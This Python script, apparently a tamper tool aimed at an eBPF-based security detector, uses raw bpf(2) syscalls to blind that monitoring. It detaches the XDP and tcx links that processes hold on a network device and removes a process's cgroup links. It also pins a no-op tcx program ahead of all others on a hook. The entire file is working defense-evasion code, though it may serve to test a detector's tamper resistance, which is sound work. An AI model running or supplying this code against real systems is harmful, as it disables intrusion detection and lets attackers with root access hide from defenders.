"""Takes a detector's programs away: `tamper.py detach DEVICE`, `tamper.py first DEVICE ingress|egress`, `tamper.py blind PID`.

By bpf(2) itself, as whoever has root could. `first` puts a program that does nothing before all others of a
tcx hook and keeps it there.
"""

import ctypes
import ctypes.util
import os
import signal
import socket
import struct
import sys

BPF = 321
PROG_LOAD, LINK_CREATE, LINK_GET_FD_BY_ID, LINK_DETACH = 5, 28, 30, 34
SCHED_CLS = 3
TCX = {"ingress": 46, "egress": 47}
BEFORE = 1 << 3

libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes, 128)
    result = libc.syscall(BPF, command, buffer, 128)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def links(pid):
    """What the kernel says of the links that a process has open."""
    for name in os.listdir(f"/proc/{pid}/fdinfo"):
        try:
            text = open(f"/proc/{pid}/fdinfo/{name}").read()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in text.splitlines() if ":" in line)
        if "link_type" in fields:
            yield {key: value.strip() for key, value in fields.items()}


def take(link):
    descriptor = bpf(LINK_GET_FD_BY_ID, struct.pack("I", int(link["link_id"])))
    bpf(LINK_DETACH, struct.pack("I", descriptor))
    print(f"detached {link['link_id']}", flush=True)


def detach(device):
    """Every link to the device that a process of this network namespace holds: others have devices of the
    same number."""
    here, index = os.stat("/proc/self/ns/net").st_ino, str(socket.if_nametoindex(device))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            held = list(links(pid)) if os.stat(f"/proc/{pid}/ns/net").st_ino == here else []
        except OSError:
            continue
        for link in held:
            if link["link_type"] in ("xdp", "tcx") and link.get("ifindex") == index:
                take(link)


def blind(pid):
    """The links to control groups that a process holds."""
    for link in links(pid):
        if link["link_type"] == "cgroup":
            take(link)


def first(device, side):
    # r0 = -1, which is TCX_NEXT; exit
    code = ctypes.create_string_buffer(struct.pack("BBhiBBhi", 0xB7, 0, 0, -1, 0x95, 0, 0, 0))
    license = ctypes.create_string_buffer(b"GPL")
    addresses = ctypes.addressof(code), ctypes.addressof(license)
    program = bpf(PROG_LOAD, struct.pack("IIQQ", SCHED_CLS, 2, *addresses))
    index = socket.if_nametoindex(device)
    bpf(LINK_CREATE, struct.pack("IIIIIIQ", program, index, TCX[side], BEFORE, 0, 0, 0))
    print("first", flush=True)
    signal.pause()


{"detach": detach, "first": first, "blind": blind}[sys.argv[1]](*sys.argv[2:])
